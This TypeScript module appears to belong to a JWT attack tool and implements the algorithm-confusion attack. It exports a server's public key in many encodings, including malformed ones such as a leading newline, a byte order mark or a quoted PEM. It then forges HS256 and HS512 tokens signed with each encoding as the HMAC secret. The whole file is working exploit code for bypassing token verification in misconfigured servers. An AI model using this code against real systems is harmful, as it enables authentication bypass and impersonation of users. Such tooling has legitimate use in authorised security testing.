/** A public key in the encodings in which servers hold it, and with which careless ones make HMACs. */
import { createPublicKey } from 'node:crypto'
import { assembleWithHmac, readToken } from './forge-token.ts'
import type { Variant } from './token-attack.ts'

export type Encoding = readonly [name: string, secret: Buffer | string]

/** Each of them once, `pem` as it was given first. @throws Error when it is no public key */
export function publicKeyEncodings(pem: string): Encoding[] {
  const key = createPublicKey(pem)
  const spki = key.export({ type: 'spki', format: 'pem' }).toString().trim()
  const der = key.export({ type: 'spki', format: 'der' })
  const encodings: Encoding[] = [
    ['PEM as given', pem],
    ['PEM with a final newline', `${spki}\n`],
    ['PEM without a final newline', spki],
    ['PEM with CRLF', `${spki.replaceAll('\n', '\r\n')}\r\n`],
    ['DER', der],
    ['DER in base64, one line', der.toString('base64')],
    ['JWK', JSON.stringify(key.export({ format: 'jwk' }))],
  ]
  if (key.asymmetricKeyType === 'rsa')
    encodings.push(['PKCS#1 PEM', key.export({ type: 'pkcs1', format: 'pem' }).toString()])
  const distinct = new Map(encodings.map((encoding) => [encoding[1].toString('latin1' as never), encoding]))
  return [...distinct.values()]
}

/** A PEM as servers load it by mistake. */
export function spoiltEncodings(pem: string): Encoding[] {
  const lines = pem.split('\n')
  return [
    ['PEM behind a newline', `\n${pem}\n`],
    ['PEM behind a newline, none at its end', `\n${pem}`],
    ['PEM behind CRLF', `\r\n${pem}\n`],
    ['PEM behind a blank', ` ${pem}\n`],
    ['PEM behind a tab', `\t${pem}\n`],
    ['PEM behind a byte order mark', `\ufeff${pem}\n`],
    ['PEM with two blanks before each line', `${lines.map((line) => `  ${line}`).join('\n')}\n`],
    ['PEM with \\n for newlines', lines.join('\\n')],
    ['PEM in one line', lines.join('')],
    ['PEM under the name RSA PUBLIC KEY', `${pem.replaceAll('BEGIN PUBLIC', 'BEGIN RSA PUBLIC')}\n`],
    ['PEM in quotes', `"${pem}"`],
  ]
}

/** The claims of `token` under HMACs with each of these. */
export function hmacsWith(token: string, secrets: readonly Encoding[], algorithms = ['HS256', 'HS512']): Variant[] {
  const { header, payload } = readToken(token)
  return secrets.flatMap(([name, secret]) =>
    algorithms.map((alg) => ({
      name: `${alg} with the public key as ${name}`,
      token: assembleWithHmac({ ...header, alg }, payload, secret, `sha${alg.slice(2)}`),
    })),
  )
}
